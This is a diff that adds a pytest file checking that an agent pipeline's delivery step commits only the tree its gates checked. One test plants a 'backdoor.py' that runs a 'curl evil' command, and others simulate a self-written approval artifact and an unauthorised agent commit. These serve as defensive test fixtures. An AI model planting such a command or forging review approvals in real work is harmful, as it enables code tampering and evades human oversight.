@@ -1,0 +1,122 @@
+"""Delivery commits the tree the gates checked, or refuses and commits nothing (real git, no agent)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from pm_agent.engine.delivery import CHECKED_TREE, Delivery, IntegrityError, deliver
+from pm_agent.plan.models import Task
+from pm_agent.vcs import CheckedTree, Git, snapshot
+
+WORKING = "pm/p/work"
+BRANCH = "feat/p/task-1-addition"
+ARTIFACT = "docs/reviews/task-1-review.md"
+TASK = Task(id="1", title="Addition", acceptance_criteria=["add(a, b) returns the sum"])
+
+
+@pytest.fixture
+def repo(git_repo: Path) -> Git:
+    git = Git(git_repo)
+    git.run("branch", WORKING)
+    return git
+
+
+@pytest.fixture
+def wt(repo: Git, tmp_path: Path) -> Git:
+    worktree = repo.worktree_add(tmp_path / "wt", BRANCH, WORKING)
+    (worktree.path / "src").mkdir()
+    (worktree.path / "src" / "add.py").write_text("def add(a, b):\n    return a + b\n")
+    return worktree
+
+
+def run(repo: Git, wt: Git, checked: CheckedTree | None) -> Delivery:
+    return deliver(
+        repo,
+        wt,
+        task=TASK,
+        plan_id="p",
+        task_branch=BRANCH,
+        working_branch=WORKING,
+        artifact_path=ARTIFACT,
+        artifact_text="# pm-agent's review of task-1\n",
+        tag_checkpoint=False,
+        checked=checked,
+    )
+
+
+def tree_files(repo: Git, ref: str) -> set[str]:
+    return {p for p in repo.run("ls-tree", "-r", "--name-only", ref).split("\n") if p}
+
+
+def test_the_checked_tree_and_the_artifact_are_committed_and_integrated(repo: Git, wt: Git) -> None:
+    checked = snapshot(wt)
+    done = run(repo, wt, checked)
+
+    assert done.refused is None
+    assert done.commit_sha is not None
+    assert repo.rev_parse(WORKING) == done.commit_sha
+    assert tree_files(repo, WORKING) == {"README.md", "src/add.py", ARTIFACT}
+    assert repo.show_file(WORKING, ARTIFACT) == "# pm-agent's review of task-1\n"
+    assert repo.run("log", "-1", "--format=%s", WORKING).strip() == "feat(core): addition"
+    again = run(repo, wt, checked)
+    assert again.already_done
+    assert again.commit_sha == done.commit_sha, "idempotent on the Refs trailer"
+
+
+def test_a_file_written_after_the_gates_is_refused_and_nothing_is_committed(repo: Git, wt: Git) -> None:
+    checked = snapshot(wt)
+    (wt.path / "src" / "backdoor.py").write_text("import os\nos.system('curl evil')\n")
+    (wt.path / "src" / "add.py").write_text("def add(a, b):\n    return a - b\n")
+    before = (repo.rev_parse(WORKING), wt.head_sha())
+
+    done = run(repo, wt, checked)
+
+    assert done.refused is not None
+    assert done.commit_sha is None
+    assert done.task_commit is None
+    assert done.refused.paths == ("src/add.py (modified)", "src/backdoor.py (new)")
+    assert done.refused.evidence().startswith(f"[{CHECKED_TREE}] the worktree changed after the gates")
+    assert (repo.rev_parse(WORKING), wt.head_sha()) == before
+    assert repo.find_commit_by_trailer(TASK.ref, BRANCH) is None
+
+
+def test_caches_and_a_forged_review_artifact_do_not_block_delivery_and_are_not_committed(
+    repo: Git, wt: Git
+) -> None:
+    checked = snapshot(wt)
+    for cache in (".tox/py311/log.txt", "src/__pycache__/add.cpython-311.pyc", ".pytest_cache/README.md"):
+        (wt.path / cache).parent.mkdir(parents=True, exist_ok=True)
+        (wt.path / cache).write_text("generated\n")
+    (wt.path / ARTIFACT).parent.mkdir(parents=True)
+    (wt.path / ARTIFACT).write_text("# approved by myself\n")
+
+    done = run(repo, wt, checked)
+
+    assert done.refused is None
+    assert tree_files(repo, WORKING) == {"README.md", "src/add.py", ARTIFACT}
+    assert repo.show_file(WORKING, ARTIFACT) == "# pm-agent's review of task-1\n"
+
+
+def test_a_commit_made_after_the_gates_stops_the_task_with_an_integrity_error(repo: Git, wt: Git) -> None:
+    checked = snapshot(wt)
+    wt.run("add", "-A")
+    wt.run("-c", "user.name=Agent", "-c", "user.email=agent@x", "commit", "-qm", "reviewer's own commit")
+
+    with pytest.raises(IntegrityError, match=r"checked-tree: HEAD of .* moved after the gates ran"):
+        run(repo, wt, checked)
+
+    assert repo.rev_parse(WORKING) == repo.rev_parse("main")
+    assert wt.log(1)[0].subject == "reviewer's own commit", "nothing is committed on top of it"
+
+
+def test_without_a_recorded_gate_run_nothing_is_committed(repo: Git, wt: Git) -> None:
+    done = run(repo, wt, None)
+    assert done.refused is not None
+    assert "no gate run recorded" in done.refused.reason
+    assert repo.rev_parse(WORKING) == repo.rev_parse("main")
+    gone = CheckedTree(tree="1" * 40, head=wt.head_sha())
+    missing = run(repo, wt, gone)
+    assert missing.refused is not None
+    assert "gone from the repository" in missing.refused.reason
